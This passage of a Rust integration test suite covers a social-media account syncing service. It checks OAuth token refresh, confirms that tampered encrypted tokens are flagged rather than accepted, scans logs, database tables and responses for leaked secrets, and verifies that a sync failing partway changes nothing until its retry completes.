        states.push(param(&url::Url::parse(authorize).unwrap(), "state").unwrap());
        let redirect = sb.consent(authorize, &sb.account_id(username).await, true).await;
        let (status, _) = keep!("callback", http.get(redirect.as_str()));
        assert_eq!(status, 303);
    }
    let list = || keep_list(&http, &url, &token);
    eventually(Duration::from_secs(90), "five accounts connected and synced", || async {
        let l = list().await;
        l.as_array().is_some_and(|a| a.len() == 5 && a.iter().all(|x| x["last_synced_at"].is_string()))
    })
    .await;
    let accounts = list().await;
    let id_of = |name: &str| accounts.as_array().unwrap().iter().find(|a| a["username"] == name).unwrap()["id"].as_i64().unwrap();
    // Renewals by hand (ops' trigger): TikTok rotates the refresh token on each.
    for name in ["dance.daily", "quickrecipes", "van.life.lena"] {
        let (status, _) = keep!("refresh run", http.post(format!("{url}/api/v1/jobs/token-refresh/run?account_id={}", id_of(name))).header("x-cron-secret", &cron_secret));
        assert_eq!(status, 200);
    }
    eventually(Duration::from_secs(60), "the TikTok accounts refreshed", || async {
        count(&db, "SELECT COUNT(*) FROM social_accounts WHERE platform = 'tiktok' AND last_refreshed_at IS NOT NULL").await == 3
    })
    .await;

    // Two accounts' sealed tokens swapped: each is bound to its own account, so neither opens.
    let (x, y) = (id_of("dance.daily"), id_of("quickrecipes"));
    sqlx::query(
        "UPDATE social_accounts a SET access_token_enc = b.access_token_enc, refresh_token_enc = b.refresh_token_enc
         FROM social_accounts b WHERE (a.id, b.id) IN (($1, $2), ($2, $1))",
    )
    .bind(x)
    .bind(y)
    .execute(pg(&db))
    .await
    .unwrap();
    let z = id_of("van.life.lena");
    let before = db.store.account(AccountId(z)).await.unwrap().unwrap().last_synced_at;
    for id in [x, y, z] {
        let (status, _) = keep!("sync request", http.post(format!("{url}/api/v1/social-media/accounts/{id}/sync")).bearer_auth(&token));
        assert_eq!(status, 202);
    }
    eventually(Duration::from_secs(60), "the swapped accounts flagged, the other synced again", || async {
        let l = list().await;
        let get = |id: i64| l.as_array().unwrap().iter().find(|a| a["id"] == id).cloned().unwrap();
        [x, y].iter().all(|id| get(*id)["status"] == "reauth_required")
            && db.store.account(AccountId(z)).await.unwrap().unwrap().last_synced_at > before
    })
    .await;
    let after = list().await;
    let flagged: Vec<String> = after.as_array().unwrap().iter().filter(|a| a["id"] == x || a["id"] == y).map(|a| format!("{}: {}", a["status"], a["last_error"])).collect();
    for a in after.as_array().unwrap().iter().filter(|a| a["id"] == x || a["id"] == y) {
        assert_eq!(a["last_error"], "token_unreadable", "the account says why: {a}");
    }
    seen.push(("accounts list".into(), after.to_string()));

    // Everything a user and an operator can read.
    for path in ["/api/v1/social-media/accounts", "/api/v1/notifications", &format!("/api/v1/social-media/accounts/{z}/stats")] {
        keep!(path, http.get(format!("{url}{path}")).bearer_auth(&token));
    }
    let signed_in = http.post(format!("{url}/dashboard/login")).form(&[("password", ops_password.as_str())]).send().await.unwrap();
    let cookie = signed_in.headers().get("set-cookie").expect("signed in").to_str().unwrap().split(';').next().unwrap().to_owned();
    let job_ids: Vec<String> = sqlx::query_scalar("SELECT id FROM apalis.jobs ORDER BY id").fetch_all(pg(&db)).await.unwrap();
    let mut pages: Vec<String> = ["/", "/jobs", "/jobs?state=dead", "/accounts", "/workers", "/cron", "/health"].iter().map(|p| p.to_string()).collect();
    pages.extend(job_ids.iter().map(|id| format!("/jobs/{id}")));
    for page in &pages {
        let (status, _) = keep!(format!("dashboard {page}"), http.get(format!("{url}/dashboard{page}")).header("cookie", &cookie));
        assert_eq!(status, 200, "dashboard {page}");
    }
    keep!("metrics", http.get(format!("{url}/metrics")));

    let alive = workers.iter_mut().map(|w| usize::from(w.running())).sum::<usize>();
    let mut secrets = issued_secrets(&sb).await;
    let ours = [jwt_secret.clone(), cron_secret.clone(), ops_password.clone(), token.to_string()];
    secrets.extend(ours.iter().cloned());
    secrets.extend(fleet.env.iter().filter(|(k, _)| k == "ENCRYPTION_KEY").map(|(_, v)| v.clone()));
    let process_logs = logs(&[&api, &workers[0], &workers[1]], "process");
    let responses = seen.len();
    let mut texts = seen;
    texts.extend(process_logs.iter().cloned());
    let mut scanned = assert_no_plaintext(&db, &secrets, &texts).await;
    // An OAuth state goes to the user's browser in the connect answer; it is kept only hashed.
    scanned += assert_no_plaintext(&db, &states, &process_logs).await;
    report(
        "secret_hygiene",
        "7. Secret hygiene: logs (debug level), every table, API and dashboard responses; swapped sealed tokens",
        &format!(
            "{scanned} secrets ({} issued by the sandbox, plus ours and the OAuth states) searched in 3 debug logs, every table and {responses} responses: 0 found; \
             swapped tokens: {} — {alive} of 2 workers still running, the third account synced again",
            scanned - ours.len() - states.len() - 1,
            flagged.join(", ")
        ),
    );
    assert_eq!(alive, 2, "nothing crashed");
}

async fn keep_list(http: &reqwest::Client, url: &str, token: &impl std::fmt::Display) -> Value {
    http.get(format!("{url}/api/v1/social-media/accounts")).bearer_auth(token).send().await.unwrap().json().await.unwrap()
}

// 8 ─────────────────────────────────────────────────────────────────────────────────────────────

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn integrity() {
    let _turn = take_turn();
    let db = TestDb::new(Backend::Postgres).await;
    let sb = SandboxServer::start().await;
    let fleet = Fleet::new(&db.url, &sb, &[("RETRY_BASE_SECS", "2"), ("CRON_REFRESH", NEVER), ("CRON_SYNC", NEVER)]);
    // 50 posts: three pages of the video list.
    let accounts = connected_accounts_with(&db.store, &sb, &fleet.vault, 1, 50).await;
    let (id, puid) = accounts[0].clone();
    let _worker = fleet.worker();
    db.store.enqueue(&sync::job(id, SyncReason::Manual, Timestamp::now())).await.unwrap();
    eventually(Duration::from_secs(30), "the first sync", || async { db.store.account(id).await.unwrap().unwrap().last_synced_at.is_some() }).await;
    let first = db.store.account(id).await.unwrap().unwrap();
    let snapshots = db.store.snapshots(id, 100).await.unwrap();
    let posts = db.store.posts(id, 1000).await.unwrap();
    let post_rows = |db: &TestDb| {
        let p = pg(db).clone();
        async move {
            sqlx::query_scalar::<_, String>("SELECT string_agg(p::text, E'\\n' ORDER BY platform_post_id) FROM posts p WHERE account_id = $1").bind(id.0).fetch_one(&p).await.unwrap()
        }
    };
    let rows_before = post_rows(&db).await;

    // The next sync reads page one, then the platform fails on page two.
    let calls_before = sb.counter("tiktok", "video/list", &puid).await;
    sb.faults(json!([{ "path_prefix": "tiktok/open/v2/video/list/", "error_rate": 1.0, "pass_first": 1 }])).await;
    db.store.enqueue(&sync::job(id, SyncReason::Manual, Timestamp::now())).await.unwrap();
    eventually(Duration::from_secs(30), "the failed sync recorded", || async {
        db.store.account(id).await.unwrap().unwrap().last_sync_error.as_deref() == Some("transient")
    })
    .await;
    let pages_served = sb.counter("tiktok", "video/list", &puid).await - calls_before;
    let failed = db.store.account(id).await.unwrap().unwrap();
    let untouched = db.store.snapshots(id, 100).await.unwrap() == snapshots && post_rows(&db).await == rows_before && failed.last_synced_at == first.last_synced_at;

    // The platform recovers; the retry completes the sync.
    sb.faults(json!([])).await;
    eventually(Duration::from_secs(60), "the retry's sync", || async {
        db.store.account(id).await.unwrap().unwrap().last_synced_at > first.last_synced_at
    })
    .await;
    let done = db.store.account(id).await.unwrap().unwrap();
    let snapshots_after = db.store.snapshots(id, 100).await.unwrap().len();
    let posts_after = db.store.post_count(id).await.unwrap();
    report(
        "integrity",
        "8. A sync failing half-way, then its retry",
        &format!(
            "first sync: {} snapshot, {} posts; the next read page 1 of the posts ({pages_served} page served) and failed on page 2: snapshots, posts and last_synced_at untouched: {untouched}; \
             the retry completed it: {snapshots_after} snapshots, {posts_after} posts, error cleared: {}",
            snapshots.len(),
            posts.len(),
            done.last_sync_error.is_none()
        ),
    );
    assert_eq!((snapshots.len(), posts.len()), (1, 50));
    assert!(pages_served >= 1, "page one was read before the failure");
    assert!(untouched, "the failed sync changed nothing");
    assert_eq!((snapshots_after, posts_after, done.last_sync_error), (2, 50, None));
}
